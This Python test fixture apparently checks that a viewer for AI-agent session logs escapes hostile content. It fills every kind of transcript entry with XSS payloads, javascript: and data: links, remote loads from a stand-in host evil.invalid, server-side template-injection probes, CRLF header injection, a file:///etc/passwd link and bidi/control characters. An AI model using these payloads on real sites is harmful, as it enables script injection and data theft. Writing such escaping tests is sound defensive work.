"""Texts that try to become more than text, and a history that has them in every place."""

import json
from pathlib import Path
from typing import Any

from tests.web.transcripts import PIXEL, Log

_RUN = "alert(document.domain)"
_OUT = "//evil.invalid/x"

PAYLOADS = [
    # Markup that runs
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt src={_OUT}></ScRiPt>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="{_OUT}" alt=x>',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_OUT}></object><embed src={_OUT}>",
    f"<link rel=stylesheet href={_OUT}><link rel=prefetch href={_OUT}>",
    f"<style>@import url({_OUT}); * {{ background: url({_OUT}) }}</style>",
    f"<p style='background:url({_OUT});position:fixed;inset:0'>x</p>",
    f"<meta http-equiv=refresh content='0;url={_OUT}'>",
    f"<base href={_OUT}>",
    f"<form action={_OUT}><button autofocus>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<x hx-get={_OUT} hx-trigger=load hx-target=body>x</x>",
    f"<x data-live hx-get=/sessions hx-trigger=load onclick={_RUN}>x</x>",
    "<dialog open id=palette><input id=palette-field></dialog>",
    # Out of an attribute, a title, a text field, a script, a comment
    f'" onmouseover={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='",
    f'"><img src=x onerror={_RUN}>',
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></details></article><img src=x onerror={_RUN}>",
    f"--></style><script>{_RUN}</script>",
    # Addresses
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java\tscript:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](\x01javascript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{_RUN}) [y](file:///etc/passwd) [z]({_OUT}) [r](/open?link=1)",
    f"<javascript:{_RUN}> <https://evil.invalid/auto>",
    f"![x](https:{_OUT}) ![y](data:image/svg+xml,<svg onload={_RUN}>)",
    f"![x]({_OUT}) [![a](https:{_OUT})](javascript:{_RUN})",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f'[x](https://ok.invalid "\' onmouseover={_RUN} \'")',
    # Markdown
    f"```html\n<script>{_RUN}</script>\n```",
    f'~~~ " onmouseover={_RUN} x="\nx\n~~~',
    f"|<img src=x onerror={_RUN}>|b|\n|-|-|\n|`<script>`|[x](javascript:{_RUN})|",
    "> " * 500 + "deep",
    "[" * 400 + "x" + "](a)" * 400,
    "- " * 300 + "x",
    # Templates, formats, what JSON and headers mind
    "{{ 7*7 }} {% raw %} {{ config }} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ self.__init__.__globals__ }}",
    "%s %n {0.__class__} \r\nset-cookie: a=b\r\n\r\nx",
    # Letters
    "\u202egnp.exe\u202c \u2066\u2067 \u200b\u200d \ufeff",
    "\x00\x07\x1b[31m\x1b]0;x\x07 \u2028\u2029 \ud800 \udfff",
    "＜script＞alert(1)＜/script＞ \u212a\u017f &lt;img src=x onerror=alert(1)&gt;",
    ">>>" + f"<img src=x onerror={_RUN}>" + "<<<",
]  # fmt: skip


def hostile_history(user: Path) -> None:
    """Write one session with every payload in every kind of entry, and some around it."""
    log = Log(user, "hostile-1", model=PAYLOADS[3], branch=PAYLOADS[33])
    for payload in PAYLOADS:
        log.ask(payload)
        log.think(payload)
        log.answer(payload)
        log.call(payload, {payload: payload, "file_path": payload, "new_string": payload}, payload)
        log.call("Bash", {"command": [payload], "deep": {payload: [payload]}}, payload, error=True)
    for media in ("image/svg+xml", "text/html", f'image/png" onerror={_RUN} x="', "image/png"):
        log.add("user", [{"type": "text", "text": "see"}, _picture(media, "PHN2Zz4=")])
    log.add(
        "user", [{"type": "text", "text": "see"}, _picture("image/png", f'"><x onload={_RUN}>')]
    )
    log.add("user", [{"type": "text", "text": "see"}, _picture("image/png", PIXEL)])
    path = log.write()
    _append(path, {"type": "custom-title", "customTitle": PAYLOADS[1], "sessionId": "hostile-1"})
    for number, payload in enumerate(PAYLOADS[::4]):
        clean = payload.replace("\x00", "").encode("utf-8", "replace").decode()
        around = Log(user, f"around-{number}", f"/home/demo/{clean}", payload, payload)
        around.ask(f"needle {payload}")
        around.answer(payload)
        path = around.write()
        _append(path, {"type": "custom-title", "customTitle": payload})
        _append(path, {"type": "agent-setting", "agentSetting": payload})


def _picture(media_type: str, data: str) -> dict[str, Any]:
    source = {"type": "base64", "media_type": media_type, "data": data}
    return {"type": "image", "source": source}


def _append(path: Path, record: dict[str, Any]) -> None:
    with path.open("a", encoding="utf-8") as file:
        file.write(json.dumps(record) + "\n")
